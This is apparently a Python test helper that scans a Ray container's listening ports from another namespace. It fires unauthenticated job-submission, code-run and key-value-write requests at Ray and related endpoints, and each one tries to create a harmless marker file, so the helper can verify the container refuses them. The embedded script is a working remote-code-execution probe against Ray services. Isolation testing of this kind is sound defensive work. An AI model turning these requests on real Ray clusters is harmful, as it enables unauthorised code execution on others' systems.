"""A stranger on the machine of a run: tries each port that listens in its container, from another namespace."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from enginebox import docker

# Its words: a host, a file that a deed makes, a token (empty: none) and ports. Tells each deed that was done. Ray's
# pages of metrics answer whatever is asked, and do nothing.
ATTACK = """
import http.client, json, os, sys
from concurrent.futures import ThreadPoolExecutor
host, planted, token, *ports = sys.argv[1:]
os.environ |= {"RAY_AUTH_MODE": "token" if token else "disabled", "RAY_AUTH_TOKEN": token}
headers = {"Content-Type": "application/json"} | ({"Authorization": f"Bearer {token}"} if token else {})
deeds = {
    "/api/jobs/": {"entrypoint": f"touch {planted}"},
    "/api/job_agent/jobs/": {"entrypoint": f"touch {planted}"},
    "/collective_rpc": {"method": "sleep", "args": [], "kwargs": {}},
    "/run_code": {"code": f"open({planted!r}, 'w')", "language": "python"},
    "/get_or_create_runtime_env": {},
}
done, refused = [], {}

def post(port):
    for path, body in deeds.items():
        try:
            ask = http.client.HTTPConnection(host, int(port), timeout=5)
            ask.request("POST", path, json.dumps(body), headers)
            answer = ask.getresponse()
            text = answer.read(200)
            if answer.status < 300 and not text.startswith(b"# HELP"):
                done.append(f"POST {port}{path}: {answer.status} {text[:80]!r}")
            refused.setdefault(port, answer.status)
        except (OSError, http.client.HTTPException) as error:
            refused.setdefault(port, type(error).__name__)
            if isinstance(error, (ConnectionRefusedError, TimeoutError)):
                return

def put(port):
    try:
        GcsClient(address=f"{host}:{port}").internal_kv_put(b"planted", b"1", True, b"fun", timeout=5)
        done.append(f"KV write {port}")
    except Exception as error:
        refused[port] = f"{refused.get(port)}, {type(error).__name__}"

with ThreadPoolExecutor(16) as pool:
    list(pool.map(post, ports))
    from ray._raylet import GcsClient
    open_to_all = [port for port in ports if refused.get(port) not in ("ConnectionRefusedError", "TimeoutError", 401)]
    list(pool.map(put, open_to_all))
print(json.dumps({"done": done, "refused": refused}))
"""


def listening(container: str) -> dict[int, bool]:
    """Return the ports that listen in a container, each with whether others than itself could reach it."""
    pid = int(docker("inspect", "--format={{.State.Pid}}", container))
    found: dict[int, bool] = {}
    for table in ("tcp", "tcp6"):
        for row in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            address, state = row.split()[1], row.split()[3]
            host, _, port = address.partition(":")
            own = host.endswith("7F") or host == "0" * 24 + "01000000"
            if state == "0A" and host != "0B00007F":  # the engine's resolver
                found[int(port, 16)] = found.get(int(port, 16), False) or not own
    return found


def attack(container: str, image: str, network: str = "host") -> tuple[list[str], dict[str, str]]:
    """Try everything; return what was done, and how each port refused."""
    form = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}"
    host = docker("inspect", f"--format={form}", container).strip()
    words = ["docker", "run", "--rm", f"--network={network}", "--entrypoint=/opt/venv/bin/python", image]
    return try_all(words, host, "/data/planted", list(listening(container)))


def try_all(
    python: list[str], host: str, planted: str, ports: list[int], token: str = ""
) -> tuple[list[str], dict[str, str]]:
    """Try everything at the ports of a host with an interpreter that has Ray; return as `attack` does."""
    words = [*python, "-c", ATTACK, host, planted, token, *map(str, ports)]
    done = subprocess.run(words, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    told = json.loads(done.stdout.strip().splitlines()[-1])
    return told["done"], told["refused"]
